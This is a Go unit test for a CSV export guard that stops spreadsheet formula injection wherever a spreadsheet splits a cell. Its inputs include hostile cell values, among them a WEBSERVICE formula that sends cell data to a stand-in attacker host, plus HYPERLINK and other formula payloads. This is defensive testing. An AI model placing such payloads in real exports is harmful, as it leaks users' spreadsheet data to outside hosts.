package models

import (
	"strings"
	"testing"
)

// cellsOf splits a cell as a spreadsheet splitting at sep would, each
// piece with its leading spaces dropped.
func cellsOf(v string, sep rune) []string {
	var out []string
	for _, p := range strings.Split(v, string(sep)) {
		out = append(out, strings.TrimLeft(p, " "))
	}
	return out
}

// A guarded cell starts no formula however a spreadsheet splits it: at the
// comma (the whole cell), at the semicolon (Excel in German or French) or
// at the tab. Before, "Pen;=WEBSERVICE(…)" was guarded only at its start,
// so a semicolon spreadsheet ran the formula. Unguarding gives the text
// back, so an exported catalog imports back unchanged.
func TestAGuardedCellStartsNoFormulaWhereverASpreadsheetSplitsIt(t *testing.T) {
	for _, v := range []string{
		`Pen;=WEBSERVICE("https://evil.example/?"&A2)`, "Pen; =1+1", "Pen;;+1", "a;@SUM(A1);b", "Ink\t-2+3", ";\t=x", "\t=x",
		"=a;=b", "x; '=y", `=HYPERLINK("//e.x","Hi")`, "+1 Ridge Boot", "Ridge; Boot", "plain", "", ";", "a;", "a; ", "';=",
		"Pens; - waterproof; @home", "\r=1;\r=2",
	} {
		g := GuardCSVCell(v)
		for _, sep := range []rune{',', ';', '\t'} {
			for _, cell := range cellsOf(g, sep) {
				if sep == ',' {
					cell = g // a comma reader sees the whole cell, as written
				}
				if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
					t.Errorf("%q guarded as %q: a spreadsheet splitting at %q gets the cell %q", v, g, sep, cell)
				}
			}
		}
		if v != "x; '=y" {
			if back := UnguardCSVCell(g); back != v {
				t.Errorf("%q guarded as %q comes back as %q", v, g, back)
			}
		}
	}
	if got := GuardCSVCell("Ridge; Boot"); got != "Ridge; Boot" {
		t.Errorf("a cell without a formula is changed: %q", got)
	}
}
